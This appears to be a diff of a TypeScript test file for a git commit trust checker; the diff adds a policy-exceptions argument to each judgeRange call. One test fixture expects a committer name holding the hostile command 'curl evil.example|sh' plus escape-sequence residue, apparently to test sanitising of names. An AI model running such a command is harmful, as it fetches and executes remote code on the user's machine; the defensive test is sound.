@@ -3,11 +3,13 @@ import { computeOid } from '../../../shared/git/object-id.ts';
 import type { Oid } from '../../../shared/model/oid.ts';
 import { createKeyring } from '../../../shared/signatures/keyring.ts';
 import { judgeRange } from '../../../shared/trust/judge-range.ts';
+import { createExceptions } from '../../../shared/trust/policy-exceptions.ts';
 import type { CommitRange } from '../../../shared/trust/walk-history.ts';
 import { createBranchPolicy } from '../../support/policies.ts';
 import { oidOf } from '../../support/small-history.ts';
 
 const branch = createBranchPolicy();
+const NONE = createExceptions({ accepted: [], denied: [] }, new Map());
 
 function commitOf(message: string, name = 'Bob'): [Oid, Uint8Array] {
   const person = `${name} <bob@example.com> 1767225600 +0000`;
@@ -28,7 +30,7 @@ describe('judgeRange', () => {
 
   it('gives each asked commit its verdict in order, and none to one that was not sent (trust rule 1.5)', () => {
     const commits = new Map([two, one, commitOf('Not asked for')]);
-    const verdicts = [...judgeRange(range, commits, createKeyring([]), branch, 2_000_000_000, new Map())];
+    const verdicts = [...judgeRange(range, commits, createKeyring([]), branch, 2_000_000_000, new Map(), NONE)];
     expect(verdicts.map(({ commit }) => commit)).toEqual([one[0], two[0]]);
     expect(verdicts).toMatchObject([{ outcome: 'refused', reason: 'unsigned' }, { outcome: 'refused' }]);
   });
@@ -42,13 +44,14 @@ describe('judgeRange', () => {
       branch,
       0,
       new Map(),
+      NONE,
     );
     expect(verdict?.committer).toBe("run 'curl evil.example|sh'\ufffd[2J\ufffd\ufffd <bob@example.com>");
   });
 
   it('keeps when a commit was first seen; for a new one that is now (trust rule 3.1)', () => {
     const seen = new Map([[one[0], 1_800_000_000]]);
-    const verdicts = [...judgeRange(range, new Map([one, two]), createKeyring([]), branch, 2_000_000_000, seen)];
+    const verdicts = [...judgeRange(range, new Map([one, two]), createKeyring([]), branch, 2_000_000_000, seen, NONE)];
     expect(verdicts.map(({ firstSeen }) => firstSeen)).toEqual([1_800_000_000, 2_000_000_000]);
   });
 });
